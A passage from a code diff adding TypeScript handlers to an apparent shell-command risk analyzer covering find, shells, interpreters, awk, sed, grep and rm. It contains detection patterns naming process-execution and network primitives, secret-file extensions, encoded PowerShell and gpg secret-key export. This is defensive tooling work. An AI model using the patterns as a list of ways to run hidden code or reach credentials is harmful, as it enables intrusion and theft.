+    if (t === '-exec' || t === '-execdir' || t === '-ok' || t === '-okdir') {
+      let k = j + 1;
+      const cmd: Field[] = [];
+      while (k < expr.length && expr[k]!.text !== ';' && expr[k]!.text !== '+') cmd.push(expr[k++]!);
+      j = k;
+      for (const r of roots) {
+        const fields = cmd.map((c) => (c.text === '{}' ? pattern(r) : c.text.includes('{}') ? { text: c.text.split('{}').join(DYN), dynamic: true } : c));
+        wrap(a, { ...inv, stdin: { kind: 'none' } }, fields, `find ${t}`);
+      }
+    } else if (t === '-delete') {
+      for (const r of roots) {
+        const pat = pattern(r);
+        if (names.length) a.path(pat, 'delete', 'find -delete', inv.st);
+        else a.path(r, 'delete', 'find -delete', inv.st, { recursive: true });
+      }
+    } else if ((t === '-fprint' || t === '-fprint0' || t === '-fprintf' || t === '-fls') && expr[j + 1]) {
+      a.path(expr[j + 1]!, 'write', `find ${t}`, inv.st);
+    }
+  }
+});
+
+// ── shells, eval, source ────────────────────────────────────────────────
+
+const SHELLS = ['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'yash', 'posh', 'fish', 'rbash', 'busybox-sh', 'tcsh', 'csh'];
+
+function shellHandler(a: ShellAnalyzer, inv: Invocation): void {
+  const p = parseArgs(inv.args, { short: 'oO', stopAtOperand: true, long: ['rcfile', 'init-file'], flags: ['--login', '--norc', '--noprofile', '--posix', '--restricted', '--verbose', '--version', '--help'] });
+  emit(a, inv, p);
+  const commandMode = p.flags.some((x) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(x)) || has(p, '--command');
+  for (const rc of allValues(p, '--rcfile', '--init-file')) a.path(rc, 'exec', `${inv.program} rcfile`, inv.st);
+  if (commandMode) {
+    const script = p.rest[0];
+    if (script) runText(a, inv, script, `${inv.program} -c`);
+    return;
+  }
+  if (p.rest.length && !has(p, '-s')) {
+    const script = p.rest[0]!;
+    if (script.procsub) {
+      executeSource(a, inv, classifyStdin(a.procStdin(script.procsub, inv.st, inv.via, inv.depth)), inv.program, 'shell');
+      return;
+    }
+    if (script.text === '/dev/stdin' || script.text === '-') {
+      executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'shell');
+      return;
+    }
+    a.path(script, 'exec', `${inv.program} script`, inv.st);
+    a.path(script, 'read', `${inv.program} script`, inv.st);
+    return;
+  }
+  executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'shell');
+}
+on(SHELLS, shellHandler);
+
+on('busybox', (a, inv) => {
+  const [applet, ...rest] = inv.args;
+  if (!applet) return;
+  a.exec([applet, ...rest], inv.st, { env: inv.env, stdin: inv.stdin, via: [...inv.via, 'busybox'], depth: inv.depth + 1 });
+});
+
+on('eval', (a, inv) => {
+  emit(a, inv, parseArgs([]));
+  const text = inv.args.map((x) => x.text).join(' ');
+  runText(a, inv, { text, dynamic: inv.args.some((x) => x.dynamic) }, 'eval');
+});
+
+on(['source', '.'], (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true });
+  emit(a, inv, p);
+  const file = p.rest[0];
+  if (!file) return;
+  if (file.procsub) {
+    executeSource(a, inv, classifyStdin(a.procStdin(file.procsub, inv.st, inv.via, inv.depth)), inv.program, 'shell');
+    return;
+  }
+  if (file.text === '/dev/stdin' || file.text === '-' || file.text === '/proc/self/fd/0') {
+    executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'shell');
+    return;
+  }
+  a.path(file, 'read', `${inv.program} file`, inv.st);
+  a.path(file, 'exec', `${inv.program} file`, inv.st);
+});
+
+// ── interpreters ────────────────────────────────────────────────────────
+
+interface InterpreterSpec {
+  /** Flags whose value is inline code. */
+  code: string[];
+  /** Short options that take a value (not code). */
+  short: string;
+  long?: string[];
+  /** `-m module` style. */
+  module?: string;
+}
+
+const INTERPRETERS: Record<string, InterpreterSpec> = {
+  python: { code: ['-c'], short: 'cmWXQ', module: '-m' },
+  python2: { code: ['-c'], short: 'cmWXQ', module: '-m' },
+  python3: { code: ['-c'], short: 'cmWXQ', module: '-m' },
+  pypy: { code: ['-c'], short: 'cmWX', module: '-m' },
+  pypy3: { code: ['-c'], short: 'cmWX', module: '-m' },
+  node: { code: ['-e', '--eval', '-p', '--print'], short: 'epr', long: ['eval', 'print', 'require', 'import', 'loader', 'experimental-loader', 'env-file', 'input-type', 'conditions', 'title'] },
+  nodejs: { code: ['-e', '--eval', '-p', '--print'], short: 'epr', long: ['eval', 'print', 'require', 'import', 'loader', 'env-file'] },
+  bun: { code: ['-e', '--eval', '-p', '--print'], short: 'epr', long: ['eval', 'print', 'preload', 'env-file'] },
+  deno: { code: [], short: '', long: ['allow-read', 'allow-write', 'allow-net', 'config', 'import-map'] },
+  ruby: { code: ['-e'], short: 'eIrCEFx' },
+  perl: { code: ['-e', '-E'], short: 'eEIMmlCd0x' },
+  php: { code: ['-r', '-B', '-R', '-E'], short: 'rBREcdfzt' },
+  lua: { code: ['-e'], short: 'el' },
+  luajit: { code: ['-e'], short: 'elj' },
+  Rscript: { code: ['-e'], short: 'e' },
+  R: { code: ['-e'], short: 'ef' },
+  osascript: { code: ['-e'], short: 'els' },
+  tclsh: { code: [], short: '' },
+  wish: { code: [], short: '' },
+  jshell: { code: [], short: '' },
+  pwsh: { code: ['-c', '-command', '-Command', '-encodedcommand', '-EncodedCommand', '-ec', '-e'], short: '' },
+  powershell: { code: ['-c', '-command', '-Command', '-encodedcommand', '-EncodedCommand', '-ec', '-e'], short: '' },
+  'powershell.exe': { code: ['-c', '-command', '-Command', '-encodedcommand', '-EncodedCommand'], short: '' },
+};
+
+const EXEC_RE = /\b(os\.system|os\.popen|os\.exec\w*|os\.spawn\w*|subprocess\.\w+|Popen|pty\.spawn|commands\.getoutput|child_process|execSync|execFileSync|spawnSync|execFile|exec\s*\(|spawn\s*\(|system\s*\(|popen\s*\(|proc_open|shell_exec|passthru|`[^`]+`|qx[({\/]|Runtime\.getRuntime|ProcessBuilder|Deno\.(run|Command)|Bun\.spawn|Start-Process|Invoke-Expression|iex\b|do shell script|IO\.popen|Kernel\.exec|Open3)/;
+const FS_RE = /\b(open\s*\(|io\.open|os\.(remove|unlink|rmdir|rename|replace|makedirs|mkdir|chmod|chown|walk|listdir|scandir)|shutil\.|pathlib|Path\s*\(|readFile|writeFile|appendFile|createWriteStream|createReadStream|fs\.|require\(['"](node:)?fs['"]\)|from ['"](node:)?fs|unlink|rmSync|rmdirSync|File\.(open|read|write|delete)|IO\.(read|write)|fopen|file_get_contents|file_put_contents|readlines|glob\.|Deno\.(readTextFile|writeTextFile|remove|readFile|writeFile)|Bun\.(file|write)|Get-Content|Set-Content|Remove-Item|Out-File|io\.open|FileUtils)/;
+const NET_RE = /\b(socket|urllib|requests\.|http\.client|httpx|aiohttp|fetch\s*\(|https?\.(get|request)|require\(['"](node:)?(https?|net|dgram|tls)['"]\)|net\.connect|XMLHttpRequest|Net::HTTP|LWP|HTTP::Tiny|IO::Socket|curl_|fsockopen|WebSocket|smtplib|ftplib|paramiko|Invoke-WebRequest|Invoke-RestMethod|WebClient|URLSession|open-uri|TCPSocket)/;
+const WRITE_RE = /(['"](w|a|wb|ab|w\+|a\+|r\+)['"]|write|remove|unlink|rmtree|rmdir|rename|replace|mkdir|chmod|chown|copy|move|rmSync|appendFile|truncate|Set-Content|Remove-Item|Out-File|delete)/i;
+
+function interpreterHandler(a: ShellAnalyzer, inv: Invocation): void {
+  const name = versionless(inv.program);
+  const spec = INTERPRETERS[name] ?? INTERPRETERS[inv.program]!;
+  const single = name === 'pwsh' || name.startsWith('powershell') || name === 'tclsh' || name === 'wish';
+  const p = parseArgs(inv.args, { short: spec.short, long: spec.long ?? [], stopAtOperand: true, singleDashLong: single });
+  const mod = spec.module ? value(p, spec.module) : undefined;
+  emit(a, inv, p, mod ? [mod.text] : []);
+  for (const req of allValues(p, '-r', '--require', '--import', '--loader', '--experimental-loader', '--preload')) {
+    if (req.text.startsWith('.') || req.text.startsWith('/')) a.path(req, 'exec', `${inv.program} preload`, inv.st);
+  }
+  for (const envFile of allValues(p, '--env-file')) a.path(envFile, 'read', `${inv.program} --env-file`, inv.st);
+  let code: Field | undefined;
+  for (const c of spec.code) {
+    const v = value(p, c);
+    if (v) code = v;
+  }
+  if (single && !code) {
+    const idx = inv.args.findIndex((x) => spec.code.includes(x.text));
+    if (idx >= 0) code = { text: inv.args.slice(idx + 1).map((x) => x.text).join(' '), dynamic: inv.args.slice(idx + 1).some((x) => x.dynamic) };
+    if (code && /encoded/i.test(inv.args[idx]!.text)) {
+      a.risk('decoded-to-shell', `${inv.program} runs a base64-encoded command`);
+      return;
+    }
+  }
+  if (name === 'deno' && p.rest[0]?.text === 'eval') code = p.rest[1];
+  if (code) {
+    inlineCode(a, inv, code.text, `${inv.program} inline code`, code.dynamic);
+    return;
+  }
+  if (mod) return;
+  const script = name === 'deno' ? (p.rest[0]?.text === 'run' ? p.rest[1] : p.rest[0]) : p.rest[0];
+  if (script && script.text !== '-') {
+    if (script.procsub) {
+      executeSource(a, inv, classifyStdin(a.procStdin(script.procsub, inv.st, inv.via, inv.depth)), inv.program, 'inline');
+      return;
+    }
+    a.path(script, 'exec', `${inv.program} script`, inv.st);
+    a.path(script, 'read', `${inv.program} script`, inv.st);
+    readAll(a, inv, (name === 'deno' && p.rest[0]?.text === 'run' ? p.rest.slice(2) : p.rest.slice(1)).filter((x) => !x.text.startsWith('-')), `${inv.program} argument`);
+    return;
+  }
+  executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'inline');
+}
+on(Object.keys(INTERPRETERS), interpreterHandler);
+
+/**
+ * Interpreter code given inline. Scans for process execution, file-system and network use; string literals
+ * that look like paths become path facts; shell commands passed to system()/exec() are analysed as shell.
+ */
+export function inlineCode(a: ShellAnalyzer, inv: Invocation, code: string, label: string, dynamic = false): void {
+  a.risk('interpreter-inline', `${label}: ${truncate(code)}`);
+  if (dynamic) a.risk('dynamic-eval', `${label} is computed at run time`);
+  const exec = EXEC_RE.test(code);
+  const fsUse = FS_RE.test(code);
+  const net = NET_RE.test(code);
+  if (exec) a.risk('interpreter-inline-exec', `${label} runs processes`);
+  if (fsUse) a.risk('interpreter-inline-fs', `${label} uses the file system`);
+  if (net) a.risk('interpreter-inline-net', `${label} uses the network`);
+  const writes = WRITE_RE.test(code);
+  for (const lit of stringLiterals(code)) {
+    if (looksLikeUrl(lit)) addUrl(a, inv, lit, label);
+    if (!looksLikePath(lit)) continue;
+    a.path(f(lit), 'read', `${label} string`, inv.st);
+    if (writes) a.path(f(lit), 'write', `${label} string`, inv.st);
+  }
+  for (const cmd of shellCommandsIn(code)) runText(a, inv, cmd, `${label} shell command`);
+}
+
+function truncate(s: string, n = 120): string {
+  return s.length > n ? s.slice(0, n) + '…' : s;
+}
+
+function stringLiterals(code: string): string[] {
+  const out: string[] = [];
+  const re = /'((?:\\.|[^'\\])*)'|"((?:\\.|[^"\\])*)"/g;
+  let m: RegExpExecArray | null;
+  while ((m = re.exec(code)) && out.length < 64) out.push(unescapeC(m[1] ?? m[2] ?? ''));
+  return out;
+}
+
+function looksLikePath(s: string): boolean {
+  if (!s || s.length > 4096 || /\s{2,}|\n/.test(s)) return false;
+  if (/^(~|\.{1,2})?\//.test(s) || s.startsWith('~')) return true;
+  if (/^\.[A-Za-z0-9_-]/.test(s)) return true;
+  if (/^[A-Za-z]:[\\/]/.test(s)) return true;
+  return /^[\w.-]+\/[\w./-]*$/.test(s) || /^[\w-]+\.(env|pem|key|json|ya?ml|toml|ini|cfg|conf|sh|txt|db|sqlite|npmrc|netrc|p12|pfx|kdbx)$/.test(s);
+}
+
+/** Shell command strings passed to system()/exec()/subprocess with a literal argument. */
+function shellCommandsIn(code: string): string[] {
+  const out: string[] = [];
+  const strRe = /(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|Popen|execSync|exec|spawnSync|system|popen|shell_exec|passthru|proc_open|getoutput|`)\s*\(?\s*(?:\[\s*)?(['"])((?:\\.|(?!\1).)*)\1((?:\s*,\s*(['"])(?:\\.|(?!\4).)*\4)*)/g;
+  let m: RegExpExecArray | null;
+  while ((m = strRe.exec(code)) && out.length < 16) {
+    const first = unescapeC(m[2]!);
+    const more = [...(m[3] ?? '').matchAll(/(['"])((?:\\.|(?!\1).)*)\1/g)].map((x) => unescapeC(x[2]!));
+    out.push(more.length ? [first, ...more].map(shellQuote).join(' ') : first);
+  }
+  for (const bt of code.matchAll(/`([^`]+)`/g)) if (out.length < 16) out.push(bt[1]!);
+  return out;
+}
+
+function shellQuote(s: string): string {
+  return /^[\w@%+=:,./-]+$/.test(s) ? s : `'${s.replace(/'/g, `'\\''`)}'`;
+}
+
+// ── awk and sed: languages with their own exec/write primitives ─────────
+
+on(['awk', 'gawk', 'mawk', 'nawk'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'fvFeilE', long: ['file', 'assign', 'field-separator', 'source', 'include', 'load', 'exec'] });
+  emit(a, inv, p);
+  const files = allValues(p, '-f', '--file', '-E', '--exec', '-i', '--include');
+  for (const file of files) a.path(file, 'read', 'awk program file', inv.st);
+  for (const lib of allValues(p, '-l', '--load')) a.risk('interpreter-inline-exec', `awk loads extension ${lib.text}`);
+  let ops = p.operands;
+  const programs: Field[] = allValues(p, '-e', '--source');
+  if (!files.length && !programs.length && ops[0]) {
+    programs.push(ops[0]);
+    ops = ops.slice(1);
+  }
+  for (const prog of programs) awkProgram(a, inv, prog.text);
+  readAll(a, inv, ops.filter((o) => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(o.text)), 'awk input');
+});
+
+function awkProgram(a: ShellAnalyzer, inv: Invocation, prog: string): void {
+  for (const m of prog.matchAll(/system\s*\(\s*"((?:\\.|[^"\\])*)"/g)) {
+    a.risk('interpreter-inline-exec', `awk system(): ${truncate(m[1]!)}`);
+    runText(a, inv, unescapeC(m[1]!), 'awk system()');
+  }
+  if (/system\s*\(/.test(prog) && !/system\s*\(\s*"/.test(prog)) a.risk('interpreter-inline-exec', 'awk system() with a computed command');
+  for (const m of prog.matchAll(/"((?:\\.|[^"\\])*)"\s*\|\s*getline|\|\s*"((?:\\.|[^"\\])*)"/g)) {
+    const cmd = unescapeC(m[1] ?? m[2]!);
+    a.risk('interpreter-inline-exec', `awk pipes through: ${truncate(cmd)}`);
+    runText(a, inv, cmd, 'awk pipe');
+  }
+  for (const m of prog.matchAll(/>>?\s*"((?:\\.|[^"\\])*)"/g)) a.path(f(unescapeC(m[1]!)), 'write', 'awk print >', inv.st);
+  for (const m of prog.matchAll(/getline\s*<\s*"((?:\\.|[^"\\])*)"/g)) a.path(f(unescapeC(m[1]!)), 'read', 'awk getline <', inv.st);
+}
+
+on(['sed', 'gsed'], (a, inv) => {
+  const p = parseArgs(inv.args, {
+    short: 'efl',
+    shortOptional: 'i',
+    long: ['expression', 'file', 'line-length'],
+    groups: [['-i', '--in-place'], ['-n', '--quiet', '--silent'], ['-E', '-r', '--regexp-extended']],
+  });
+  let ops = p.operands;
+  const scripts = allValues(p, '-e', '--expression');
+  for (const file of allValues(p, '-f', '--file')) a.path(file, 'read', 'sed script file', inv.st);
+  if (!scripts.length && !p.values.has('-f') && ops[0]) {
+    scripts.push(ops[0]);
+    ops = ops.slice(1);
+  }
+  emit(a, inv, { ...p, operands: ops });
+  const inPlace = has(p, '-i', '--in-place');
+  readAll(a, inv, ops, 'sed input');
+  if (inPlace) for (const o of ops) a.path(o, 'write', 'sed -i', inv.st);
+  for (const s of scripts) sedScript(a, inv, s.text);
+});
+
+function sedScript(a: ShellAnalyzer, inv: Invocation, script: string): void {
+  for (const m of script.matchAll(/(?:^|[;\n{}])\s*(?:[0-9$,/\\^.*+?[\]!~-]*)\s*([wWrR])\s+([^;\n}]+)/g)) {
+    const file = m[2]!.trim();
+    a.path(f(file), m[1]!.toLowerCase() === 'w' ? 'write' : 'read', `sed ${m[1]} command`, inv.st);
+  }
+  for (const m of script.matchAll(/s(.)(?:\\.|(?!\1).)*\1(?:\\.|(?!\1).)*\1[gpiIme0-9]*w\s+([^;\n}]+)/g)) a.path(f(m[2]!.trim()), 'write', 'sed s///w', inv.st);
+  if (/(?:^|[;\n{}])\s*[0-9$,/]*\s*e(\s|$|;)/.test(script) || /s(.)(?:\\.|(?!\1).)*\1(?:\\.|(?!\1).)*\1[gpiIm0-9w]*e/.test(script)) {
+    a.risk('interpreter-inline-exec', `sed script executes commands: ${truncate(script)}`);
+  }
+}
+
+// ── file readers ────────────────────────────────────────────────────────
+
+const READER_SPECS: Record<string, OptSpec> = {
+  cat: {}, tac: { short: 's' }, nl: { short: 'bdfhilnpsvw' }, head: { short: 'nc', numeric: true, long: ['lines', 'bytes'] },
+  tail: { short: 'ncs', numeric: true, long: ['lines', 'bytes', 'pid', 'sleep-interval', 'max-unchanged-stats'] },
+  less: { short: 'bhjkoOpPtTxyz#', long: ['log-file', 'LOG-FILE'] }, more: { numeric: true }, most: {}, pg: {}, view: {},
+  bat: { short: 'lmrHpLw', long: ['language', 'map-syntax', 'line-range', 'highlight-line', 'theme', 'style', 'tabs', 'wrap'] },
+  batcat: { short: 'lmrHpLw', long: ['language', 'line-range', 'theme', 'style'] },
+  strings: { short: 'ntTeo', numeric: true }, od: { short: 'AjNtwS' }, hexdump: { short: 'enNsf' }, hd: { short: 'enNs' },
+  base64: { short: 'w' }, base32: { short: 'w' }, basenc: { short: 'w' },
+  md5sum: {}, sha1sum: {}, sha224sum: {}, sha256sum: {}, sha384sum: {}, sha512sum: {}, b2sum: { short: 'l' }, cksum: { short: 'al' }, sum: {},
+  shasum: { short: 'a' }, md5: { short: 's' },
+  wc: { long: ['files0-from'] }, sort: { short: 'kStTo', long: ['key', 'field-separator', 'buffer-size', 'temporary-directory', 'output', 'files0-from'] },
+  uniq: { short: 'fsw' }, cut: { short: 'bcdf', long: ['delimiter', 'fields', 'bytes', 'characters', 'output-delimiter'] },
+  paste: { short: 'd' }, join: { short: 'ajoet12' }, comm: {}, fold: { short: 'w' }, fmt: { short: 'wgp' }, pr: { short: 'wlhoNn' },
+  expand: { short: 't' }, unexpand: { short: 't' }, column: { short: 'csotNRHWlEd' }, iconv: { short: 'fto', long: ['from-code', 'to-code', 'output'] },
+  diff: { short: 'UCIFLSxX', long: ['label', 'from-file', 'to-file', 'exclude', 'exclude-from', 'ignore-matching-lines', 'unified', 'context'] },
+  cmp: { short: 'inb' }, sdiff: { short: 'owI' }, diff3: { short: 'L' }, colordiff: { short: 'UC' },
+  zcat: {}, zless: {}, zmore: {}, bzcat: {}, xzcat: {}, lz4cat: {}, zstdcat: {}, zgrep: {},
+  jq: { short: 'fL', long: ['arg', 'argjson', 'slurpfile', 'rawfile', 'from-file', 'indent', 'args', 'jsonargs'] },
+  yq: { short: 'oIpe', long: ['output-format', 'input-format', 'expression', 'indent'] },
+  xmllint: { short: '', long: ['xpath', 'output', 'schema'] },
+  openssl: {}, gpg: { short: 'orud', long: ['output', 'recipient', 'local-user', 'default-key', 'homedir'] },
+  tee: {}, look: {}, rev: {}, tr: {}, cat2: {},
+  xxd: { short: 'cglosC' },
+  split: { short: 'lbnaC', long: ['lines', 'bytes', 'number', 'suffix-length', 'additional-suffix', 'line-bytes'] },
+  csplit: { short: 'bfn' },
+  cpio: { short: 'DEFHIMORV' },
+};
+
+for (const [name, spec] of Object.entries(READER_SPECS)) {
+  if (['tee', 'xxd', 'split', 'openssl', 'gpg', 'sort', 'jq', 'yq', 'tr', 'cpio'].includes(name)) continue;
+  on(name, (a, inv) => {
+    const p = parseArgs(inv.args, spec);
+    emit(a, inv, p);
+    readAll(a, inv, p.operands, `${inv.program} operand`);
+    for (const v of allValues(p, '--files0-from', '--log-file', '-o', '--LOG-FILE')) a.path(v, name === 'less' ? 'write' : 'read', `${inv.program} option`, inv.st);
+    if (name === 'diff' || name === 'colordiff') for (const v of allValues(p, '--from-file', '--to-file', '--exclude-from', '-X')) a.path(v, 'read', 'diff option', inv.st);
+    if (name === 'cat' || name === 'tac' || name === 'head' || name === 'tail' || name === 'nl') {
+      if (p.operands.length) inv.outputFiles = p.operands.filter((o) => !o.dynamic).map((o) => a.firstPath(o, inv.st));
+      else if (inv.stdin.kind === 'text' && name === 'cat') inv.output = { text: inv.stdin.text, dynamic: inv.stdin.dynamic };
+    }
+  });
+}
+
+on('tr', (a, inv) => emit(a, inv, parseArgs(inv.args)));
+
+on(['jq', 'yq', 'gojq', 'jaq'], (a, inv) => {
+  const spec = READER_SPECS[inv.program] ?? READER_SPECS.jq!;
+  const p = parseArgs(inv.args, spec);
+  emit(a, inv, p);
+  let ops = p.operands;
+  const fromFile = value(p, '-f', '--from-file');
+  if (fromFile) a.path(fromFile, 'read', `${inv.program} filter file`, inv.st);
+  else if (!value(p, '-e', '--expression')) ops = ops.slice(1);
+  if (has(p, '--args', '--jsonargs')) ops = [];
+  for (const v of [...allValues(p, '--slurpfile'), ...allValues(p, '--rawfile')]) a.path(v, 'read', `${inv.program} file option`, inv.st);
+  readAll(a, inv, ops, `${inv.program} input`);
+  if (has(p, '-i', '--inplace')) for (const o of ops) a.path(o, 'write', `${inv.program} -i`, inv.st);
+});
+
+on('sort', (a, inv) => {
+  const p = parseArgs(inv.args, READER_SPECS.sort!);
+  emit(a, inv, p);
+  readAll(a, inv, p.operands, 'sort input');
+  for (const o of allValues(p, '-o', '--output')) a.path(o, 'write', 'sort -o', inv.st);
+  for (const o of allValues(p, '--files0-from')) a.path(o, 'read', 'sort --files0-from', inv.st);
+});
+
+on('xxd', (a, inv) => {
+  const p = parseArgs(inv.args, READER_SPECS.xxd!);
+  emit(a, inv, p);
+  const [input, output] = p.operands;
+  if (input) a.path(input, 'read', 'xxd input', inv.st);
+  if (output) a.path(output, 'write', 'xxd output', inv.st);
+});
+
+on(['split', 'csplit'], (a, inv) => {
+  const p = parseArgs(inv.args, READER_SPECS[inv.program]!);
+  emit(a, inv, p);
+  const [input, prefix] = p.operands;
+  if (input) a.path(input, 'read', `${inv.program} input`, inv.st);
+  if (prefix && inv.program === 'split') a.path({ ...prefix, glob: prefix.text.replace(/[*?[\]\\]/g, '\\$&') + '*' }, 'write', 'split output', inv.st);
+});
+
+on('tee', (a, inv) => {
+  const p = parseArgs(inv.args, { groups: [['-a', '--append']], long: ['output-error'] });
+  emit(a, inv, p);
+  for (const o of p.operands) a.path(o, 'write', 'tee', inv.st);
+  if (inv.stdin.kind === 'text') inv.output = { text: inv.stdin.text, dynamic: inv.stdin.dynamic };
+});
+
+on(['openssl'], (a, inv) => {
+  const sub = inv.args[0];
+  const p = parseArgs(inv.args.slice(1), { singleDashLong: true });
+  emit(a, inv, p, sub ? [sub.text] : []);
+  const rest = inv.args.slice(1);
+  for (let i = 0; i < rest.length; i++) {
+    const t = rest[i]!.text;
+    const next = rest[i + 1];
+    if (!next) break;
+    if (['-in', '-key', '-inkey', '-cert', '-CAfile', '-passin', '-kfile', '-signkey', '-config', '-pass'].includes(t)) {
+      if (t.startsWith('-pass') && !/^file:/.test(next.text)) continue;
+      a.path({ ...next, text: next.text.replace(/^file:/, '') }, 'read', `openssl ${t}`, inv.st);
+      i++;
+    } else if (['-out', '-keyout'].includes(t)) {
+      a.path(next, 'write', `openssl ${t}`, inv.st);
+      i++;
+    } else if (t === '-connect') {
+      addUrl(a, inv, next.text, 'openssl s_client', stdinSends(inv.stdin), 'tls');
+      i++;
+    }
+  }
+});
+
+on('gpg', (a, inv) => {
+  const p = parseArgs(inv.args, READER_SPECS.gpg!);
+  emit(a, inv, p);
+  readAll(a, inv, p.operands, 'gpg input');
+  for (const o of allValues(p, '-o', '--output')) a.path(o, 'write', 'gpg --output', inv.st);
+  if (has(p, '--export-secret-keys', '--export-secret-subkeys')) a.path(f(`${a.env.home}/.gnupg/private-keys-v1.d`), 'read', 'gpg --export-secret-keys', inv.st, { recursive: true });
+});
+
+// ── search tools ────────────────────────────────────────────────────────
+
+on(['grep', 'egrep', 'fgrep', 'ack', 'ag', 'ugrep', 'pcregrep', 'pcre2grep'], (a, inv) => {
+  const p = parseArgs(inv.args, {
+    short: 'efABCmdDX',
+    long: ['regexp', 'file', 'after-context', 'before-context', 'context', 'max-count', 'include', 'exclude', 'exclude-dir', 'exclude-from', 'label', 'binary-files', 'devices', 'directories', 'color', 'colour', 'group-separator'],
+    groups: [['-r', '--recursive'], ['-R', '--dereference-recursive']],
+  });
+  emit(a, inv, p);
+  let ops = p.operands;
+  for (const file of allValues(p, '-f', '--file', '--exclude-from')) a.path(file, 'read', `${inv.program} pattern file`, inv.st);
+  if (!p.values.has('-e') && !p.values.has('--regexp') && !p.values.has('-f') && !p.values.has('--file')) ops = ops.slice(1);
+  const recursive = has(p, '-r', '-R', '--recursive', '--dereference-recursive') || inv.program === 'ack' || inv.program === 'ag';
+  if (!ops.length && recursive) ops = [f('.')];
+  const includes = allValues(p, '--include');
+  for (const o of ops) {
+    a.path(o, 'read', `${inv.program} input`, inv.st, { recursive });
+    if (recursive) for (const inc of includes) a.path({ text: DYN, dynamic: false, glob: `${o.text.replace(/\/+$/, '')}/**/${inc.text}`, globDot: true }, 'read', `${inv.program} --include`, inv.st);
+  }
+});
+
+on(['rg', 'ripgrep'], (a, inv) => {
+  const p = parseArgs(inv.args, {
+    short: 'efgtTmABCjMdEr',
+    long: ['regexp', 'file', 'glob', 'iglob', 'type', 'type-not', 'max-count', 'after-context', 'before-context', 'context', 'threads', 'max-columns', 'max-depth', 'encoding', 'replace', 'pre', 'pre-glob', 'type-add', 'ignore-file', 'path-separator', 'sort', 'sortr', 'colors', 'color'],
+  });
+  emit(a, inv, p);
+  let ops = p.operands;
+  for (const file of allValues(p, '-f', '--file', '--ignore-file')) a.path(file, 'read', 'rg file option', inv.st);
+  const pre = value(p, '--pre');
+  if (pre) {
+    a.risk('interpreter-inline-exec', `rg --pre runs ${pre.text} on every file`);
+    a.exec([pre], inv.st, { env: inv.env, stdin: { kind: 'none' }, via: [...inv.via, 'rg --pre'], depth: inv.depth + 1 });
+  }
+  if (!p.values.has('-e') && !p.values.has('--regexp') && !p.values.has('-f') && !p.values.has('--file') && !has(p, '--files', '--type-list')) ops = ops.slice(1);
+  if (!ops.length) ops = [f('.')];
+  const globs = allValues(p, '-g', '--glob', '--iglob').filter((g) => !g.text.startsWith('!'));
+  for (const o of ops) {
+    a.path(o, has(p, '--files') ? 'list' : 'read', 'rg input', inv.st, { recursive: true });
+    for (const g of globs) {
+      const pat = g.text.includes('/') && !g.text.startsWith('**') ? g.text.replace(/^\//, '') : `**/${g.text.replace(/^\*\*\//, '')}`;
+      a.path({ text: DYN, dynamic: false, glob: `${o.text.replace(/\/+$/, '')}/${pat}`, globDot: true }, has(p, '--files') ? 'list' : 'read', 'rg --glob', inv.st);
+    }
+  }
+});
+
+// ── file writers, deleters, copiers ─────────────────────────────────────
+
+const RM_SPEC: OptSpec = {
+  groups: [['-r', '-R', '--recursive'], ['-f', '--force'], ['-i'], ['-I'], ['-d', '--dir'], ['-v', '--verbose']],
+  flags: ['--no-preserve-root', '--preserve-root', '--one-file-system', '--interactive'],
+};
+
+on(['rm', 'grm'], (a, inv) => {
+  const p = parseArgs(inv.args, RM_SPEC);
+  emit(a, inv, p);
+  const recursive = has(p, '-r', '--recursive');
+  for (const o of p.operands) {
+    a.path(o, 'delete', 'rm operand', inv.st, { recursive });
+    if (recursive && (o.dynamic || o.text.includes(DYN))) a.risk('dynamic-path-delete', `rm -r of a path computed at run time: ${o.text}`);
+  }
+});
+
+on(['rmdir', 'unlink', 'srm', 'wipe'], (a, inv) => {
+  const p = parseArgs(inv.args, { groups: [['-r', '-R', '--recursive']] });
+  emit(a, inv, p);
+  const recursive = inv.program !== 'unlink' && inv.program !== 'rmdir' && has(p, '-r', '--recursive');
+  for (const o of p.operands) a.path(o, 'delete', `${inv.program} operand`, inv.st, { recursive });
+});
+
+on('shred', (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'ns', long: ['iterations', 'size', 'random-source'], groups: [['-u', '--remove']] });
+  emit(a, inv, p);
+  for (const o of p.operands) {
+    a.path(o, 'write', 'shred', inv.st);
+    if (has(p, '-u', '--remove')) a.path(o, 'delete', 'shred -u', inv.st);
+  }
+});
+
+on(['touch', 'mkdir', 'mkfifo', 'mknod', 'truncate', 'fallocate', 'setfattr', 'xattr', 'utime', 'mktemp'], (a, inv) => {
+  const short: Record<string, string> = { touch: 'dtr', mkdir: 'mZ', mkfifo: 'mZ', mknod: 'mZ', truncate: 'sr', fallocate: 'lon', setfattr: 'nvx', mktemp: 'pt' };
+  const p = parseArgs(inv.args, { short: short[inv.program] ?? '', long: ['reference', 'size', 'mode', 'date', 'tmpdir', 'suffix'] });
+  emit(a, inv, p);
+  if (inv.program === 'mktemp') return;
+  for (const ref of allValues(p, '-r', '--reference')) a.path(ref, 'list', `${inv.program} --reference`, inv.st);
+  const ops = inv.program === 'mknod' ? p.operands.slice(0, 1) : p.operands;
+  for (const o of ops) a.path(o, 'write', `${inv.program} operand`, inv.st);
+});
+
+on(['chmod', 'chown', 'chgrp', 'chattr', 'setfacl', 'chcon'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: inv.program === 'setfacl' ? 'mMxX' : '', long: ['reference', 'from'], groups: [['-R', '--recursive']] });
+  emit(a, inv, p);
+  const hasRef = p.values.has('--reference');
+  let ops = p.operands;
+  if (!hasRef && inv.program !== 'setfacl') ops = ops.slice(1);
+  const recursive = has(p, '-R', '--recursive');
+  for (const o of ops) a.path(o, 'write', `${inv.program} operand`, inv.st, { recursive });
+});
+
+function targetAndSources(p: ParsedArgs): { sources: Field[]; dest?: Field } {
+  const t = value(p, '-t', '--target-directory');
+  if (t) return { sources: p.operands, dest: t };
